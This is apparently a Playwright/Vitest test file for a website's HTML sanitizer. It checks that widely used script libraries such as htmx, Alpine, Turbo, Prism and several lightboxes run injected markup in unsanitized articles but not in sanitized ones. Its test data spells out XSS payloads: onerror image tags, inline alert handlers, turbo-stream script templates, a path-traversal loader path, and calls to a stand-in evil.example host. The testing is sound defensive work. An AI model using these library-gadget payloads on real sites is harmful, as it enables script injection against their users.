import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { satteri } from '@astrojs/markdown-satteri';
import type { Browser, BrowserContext, Route } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { toFeedHtml } from '../../src/feed/feed-html.ts';
import { renderMarkdown } from '../../src/live/live-markdown.ts';
import { renderWith } from '../../src/render/markdown-settings.ts';
import { createSiteRenderer } from '../../src/render/render-article.ts';
import type { SanitizeOption } from '../../src/shared/sanitize-option.ts';
import { isLong } from '../helpers/runs.ts';
import { launch } from './chromium.ts';
import { exercise, watch } from './in-page.ts';

// Widely used script libraries, unchanged, on the page of an article that is written for them.

interface Library {
  /** Files in node_modules. */
  files: string[];
  /** Source text of the site's own script, which starts the library. */
  start?: string;
  /** Articles on which the library acts without sanitizing. */
  articles: string[];
  /** Articles whose `title` or `alt` the library writes as HTML. */
  texts?: string[];
}

const evil = 'https://evil.example';
/** A path of the site whose content an article may determine, such as an uploaded file. */
const upload = '/uploads/page.html';
const cdn = 'https://cdn.example/libraries';
const written = '<img src=x onerror=alert(1)>';
const attribute = (value: unknown) =>
  (typeof value === 'string' ? value : JSON.stringify(value))
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;');
const html = attribute(written);
const picture = `${evil}/x.png`;

const libraries: Record<string, Library> = {
  'lottie-web': {
    files: ['lottie-web/build/player/lottie.js'],
    articles: [
      `<div class="lottie" data-animation-path="${evil}/x.json" data-anim-type="svg">x</div>`,
      `<div class="bodymovin" data-bm-path="${evil}/x.json" data-bm-type="svg">x</div>`,
    ],
  },
  splide: {
    files: ['@splidejs/splide/dist/js/splide.js'],
    start: `for (const each of document.querySelectorAll('.splide')) new Splide(each).mount();`,
    articles: [
      `<section class="splide" data-splide="${attribute({ arrowPath: `"/>${written}` })}"><div class="splide__track"><ul class="splide__list"><li class="splide__slide">1</li><li class="splide__slide">2</li></ul></div></section>`,
    ],
  },
  'infinite-scroll': {
    files: ['infinite-scroll/dist/infinite-scroll.pkgd.js'],
    articles: [
      `<div data-infinite-scroll="${attribute({ path: `${evil}/{{#}}.html`, append: 'img', prefill: true, history: false })}"><p>x</p></div>`,
    ],
  },
  'foundation-sites': {
    files: ['jquery/dist/jquery.js', 'foundation-sites/dist/js/foundation.js'],
    start: '$(document).foundation();',
    articles: [
      `<div data-interchange="[${evil}/page.html, (min-width: 1px)]">x</div>`,
      `<span data-tooltip data-allow-html="true" data-tip-text="${html}" tabindex="0">x</span>`,
    ],
  },
  'prism with its autoloader': {
    files: ['prismjs/prism.js', 'prismjs/plugins/autoloader/prism-autoloader.js'],
    start: `Prism.plugins.autoloader.languages_path = '${cdn}/prismjs@1/components/';`,
    articles: [
      '<pre data-dependencies="x/../../../evil@1/x"><code class="language-abc">x</code></pre>',
      '<pre><code class="language-abc" data-dependencies="x/../../../evil@1/x">x</code></pre>',
    ],
  },
  lightbox2: {
    files: ['jquery/dist/jquery.js', 'lightbox2/dist/js/lightbox.js'],
    start: 'lightbox.option({ fadeDuration: 0, imageFadeDuration: 0, resizeDuration: 0 });',
    articles: [
      `<a href="${picture}" rel="lightbox" title="${html}">x</a>`,
      `<a href="${picture}" rel="lightbox[a]" title="${html}">x</a>`,
      `<a href="${picture}" data-lightbox="a" data-title="${html}">x</a>`,
      `<a href="${picture}" data-lightbox="a" title="${html}">x</a>`,
    ],
  },
  glightbox: {
    files: ['glightbox/dist/js/glightbox.js'],
    start: 'GLightbox();',
    articles: [
      `<a class="glightbox" href="${picture}" data-glightbox="title: ${html}">x</a>`,
      `<a class="glightbox" href="${picture}" data-title="${html}">x</a>`,
      `<a class="glightbox" href="${picture}" data-description="${html}">x</a>`,
    ],
    texts: [`<a class="glightbox" href="${picture}" title="${html}">x</a>`],
  },
  lightgallery: {
    files: ['lightgallery/lightgallery.umd.js'],
    start: `for (const each of document.querySelectorAll('article')) lightGallery(each, { selector: 'a', speed: 1 });`,
    articles: [`<a href="${picture}" data-sub-html="${html}"><img src="${picture}"></a>`],
    texts: [
      `<a href="${picture}"><img src="${picture}" alt="${html}"></a>`,
      `<a href="${picture}" title="${html}"><img src="${picture}"></a>`,
    ],
  },
  'materialize-css': {
    files: ['materialize-css/dist/js/materialize.js'],
    start: 'M.AutoInit();',
    articles: [`<span class="tooltipped" data-tooltip="${html}" tabindex="0">x</span>`],
  },
  'htmx.org': {
    files: ['htmx.org/dist/htmx.js'],
    articles: [
      `<p hx-get="${upload}" hx-trigger="load">x</p>`,
      `<p data-hx-get="${upload}" data-hx-trigger="load">x</p>`,
      '<p hx-on:click="alert(1)">x</p>',
    ],
  },
  alpinejs: {
    files: ['alpinejs/dist/cdn.js'],
    articles: ['<p x-data x-init="alert(1)">x</p>', '<p x-data @click="alert(1)">x</p>'],
  },
  turbo: {
    files: ['@hotwired/turbo/dist/turbo.es2017-umd.js'],
    articles: [
      `<turbo-frame id="a" src="${evil}/page.html">x</turbo-frame>`,
      `<turbo-stream action="before" targets="article"><template><script>alert(1)</script></template></turbo-stream>`,
      `<a href="${upload}" data-turbo-method="delete">x</a>`,
    ],
  },
};

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
  return () => browser.close();
});

const base = new URL('https://site.example/');
const renderers = {
  site: createSiteRenderer(renderWith({ processor: satteri() })),
  live: createSiteRenderer(renderMarkdown),
};

async function htmlOf(content: string, sanitize: SanitizeOption, render = renderers.site) {
  const { html } = await render({ id: '1', title: 'T', content }, { base, sanitize });
  return html.join('');
}

/** Returns the HTML of an article in pages, with the option 'strict', too, in live pages and in feeds. */
async function textsOf(content: string): Promise<string[]> {
  const html = await htmlOf(content, true);
  const others = [htmlOf(content, 'strict'), htmlOf(content, true, renderers.live)];
  return [html, ...(await Promise.all(others)), toFeedHtml(html, base)];
}

// Every third library, unless `TEST_SCALE` is set: most look for attributes and classes as the others do.
const tried = Object.entries(libraries).filter((_, at) => isLong || at % 3 === 0);

describe.each(tried)('%s', (name, library) => {
  const { articles, texts = [] } = library;

  it.each([...articles, ...texts])('acts on %s without sanitizing', async (content) => {
    expect(await signsOf(library, [await htmlOf(content, false)], 10_000)).not.toEqual([]);
  });

  it('does not act on sanitized articles in pages, live pages and feeds', async () => {
    const shown = (await Promise.all([...articles, ...texts].map(textsOf))).flat();
    // All of them have a text, except for the one that consists of a `<template>`.
    const hasText = (text: string) => /[x1]/.test(text.replace(/<[^>]*>/g, ''));
    const empty = shown.filter((text) => !hasText(text) && !text.includes('<img'));
    expect(empty).toHaveLength(name === 'turbo' ? 4 : 0);
    expect(await signsOf(library, shown)).toEqual([]);
  });
});

/**
 * Shows articles on a page with a library, does what a reader may do, and returns what the library did
 * within a time in milliseconds.
 */
async function signsOf(
  { files, start = '' }: Library,
  texts: string[],
  patience = 800,
): Promise<string[]> {
  const scripts = files.map((file) => `<script src="/${file}"></script>`);
  const sections = texts.map(
    (text) => `<section><article>${text}</article><p class="after">x</p></section>`,
  );
  const page = `<!doctype html><meta charset="utf-8"><title>x</title><a id="home" href="/">Home</a>
    <main>${sections.join('')}</main>${scripts.join('')}<script>${start}</script>`;
  const signs = new Set<string>();
  const context = await browser.newContext();
  await serve(context, page, signs);
  const tab = await context.newPage();
  tab.on('console', (message) => {
    if (message.text().startsWith('[ran]')) signs.add(message.text());
  });
  await tab.goto('https://site.example/');
  await tab.evaluate(exercise, false);
  const until = Date.now() + patience;
  while (signs.size === 0 && Date.now() < until) await tab.waitForTimeout(50);
  await context.close();
  return [...signs];
}

async function serve(context: BrowserContext, page: string, signs: Set<string>): Promise<void> {
  await context.addInitScript(watch);
  await context.route('**/*', async (route) => {
    const { origin, pathname } = new URL(route.request().url());
    const type = route.request().resourceType();
    const isActed = (origin === evil && type !== 'image') || pathname === upload;
    if (isActed) signs.add(`${type} of ${pathname}`);
    if (origin === evil || isActed) return answer(route, pathname);
    if (origin === new URL(cdn).origin) {
      if (!pathname.startsWith('/libraries/prismjs@1/components/'))
        signs.add(`code of ${pathname}`);
      return route.fulfill({ contentType: 'text/javascript', body: '' });
    }
    if (pathname === '/') return route.fulfill({ contentType: 'text/html', body: page });
    const file = join(modules, pathname);
    const body = await readFile(file).catch(() => undefined);
    return route.fulfill(body ? { contentType: 'text/javascript', body } : { status: 404 });
  });
}

const modules = fileURLToPath(new URL('../../node_modules', import.meta.url));

function answer(route: Route, pathname: string) {
  const headers = { 'access-control-allow-origin': '*' };
  if (!pathname.endsWith('.png')) return route.fulfill({ headers, body: written });
  const body = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"></svg>';
  return route.fulfill({ headers, contentType: 'image/svg+xml', body });
}
